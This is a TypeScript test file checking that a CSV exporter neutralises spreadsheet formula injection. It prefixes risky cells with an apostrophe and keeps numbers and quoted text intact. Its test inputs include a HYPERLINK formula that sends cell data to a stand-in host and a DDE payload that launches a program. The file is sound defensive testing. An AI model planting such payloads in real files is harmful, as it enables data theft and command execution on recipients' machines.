/** Text that leaves the page as CSV: read back as it was, and harmless in a spreadsheet. */
import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvText } from '../../src/export/csv';

const DATA = 'ml.csv · 1234567812345678';

function read(text: string): string[][] {
  const { data, errors } = Papa.parse<string[]>(text.slice(0, -1), { newline: '\n', delimiter: ',' });
  expect(errors).toEqual([]);
  return data;
}

/** The only cell of the only row, between two others. */
function cellOf(value: unknown): string {
  return read(csvText(['a', 'b', 'c'], [[1, value, 2]], DATA))[1][1];
}

describe('text that a spreadsheet would run', () => {
  it.each([
    '=1+1',
    '=HYPERLINK("http://a.example?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-2+3',
    '-',
    '@SUM(A1)',
    ' =1+1',
    '\u00a0=1+1',
    '\t=1+1',
    '\tname',
    '\rname',
    '\n=1+1',
    '＝1+1',
    '+Infinity',
    '-1,5',
    '-0x10',
    '--1',
    '+1e',
  ])('gets an apostrophe before it: %j', (value) => {
    expect(cellOf(value)).toBe(`'${value}`);
  });

  it('gets one in a heading, too', () => {
    expect(read(csvText(['=a', 'b'], [[1, 2]], DATA))[0].slice(0, 2)).toEqual(["'=a", 'b']);
  });

  it.each([
    ['shoes;=1+1', "shoes;'=1+1"],
    ['shoes;@A1;-2', "shoes;'@A1;-2"],
  ])('gets one where another separator would begin a cell: %j', (value, written) => {
    expect(cellOf(value)).toBe(written);
  });
});

it.each(['-12.5', '+3', '-1e-5', '-.5', '7.', '0', '-0'])('a number as text stays a number: %s', (value) => {
  expect(cellOf(value)).toBe(value);
});

it.each([-12.5, 0, 1e-300, -1e308, 16777217])('a number stays a number: %d', (value) => {
  expect(Number(cellOf(value))).toBe(value);
});

it('the data set stands in the last column of every row, and a name like a formula is harmless there too', () => {
  const rows = [0, 10].map((step) => [step, 0.5]);
  const text = csvText(['step', 'auc'], rows, DATA);
  expect(text).toBe(`step,auc,data\n0,0.5,${DATA}\n10,0.5,${DATA}\n`);
  expect(read(csvText(['a'], [[1]], '=1+1.csv'))[1]).toEqual(['1', "'=1+1.csv"]);
});

it('what is missing is an empty cell', () => {
  expect([cellOf(null), cellOf(undefined), cellOf('')]).toEqual(['', '', '']);
});

it('names with quotes, line ends, separators, apostrophes and white space come back as they were', () => {
  const parts = ['"', '""', '\n', '\r\n', '\r', ',', ';', '\t', "'", ' ', 'a', 'ß', '=', '1', '鞋'];
  const names = fc.array(fc.constantFrom(...parts)).map((all) => `a${all.join('')}`);
  const harmless = names.filter((name) => !/;\s*=/.test(name));
  fc.assert(
    fc.property(fc.array(fc.tuple(harmless, harmless), { minLength: 1 }), (rows) => {
      const written = rows.map((row) => [...row, DATA]);
      expect(read(csvText(['first', 'second'], rows, DATA))).toEqual([
        ['first', 'second', 'data'],
        ...written,
      ]);
    }),
  );
});

it('no cell of any text begins like a formula', () => {
  const parts = ['=', '+', '-', '@', '\t', '\r', '\n', ' ', '"', ',', ';', 'a', '1', '＝'];
  const texts = fc.array(fc.constantFrom(...parts)).map((all) => all.join(''));
  fc.assert(
    fc.property(texts, (text) => {
      const written = cellOf(text);
      expect(written.replaceAll(/(^|;)'/g, '$1')).toBe(text.replaceAll(/(^|;)'/g, '$1'));
      for (const part of [written, ...written.split(';')]) {
        if (!/^[+-][\d.]+$/.test(part)) expect(part).not.toMatch(/^\s*[=+\-@＝]/);
      }
    }),
  );
});
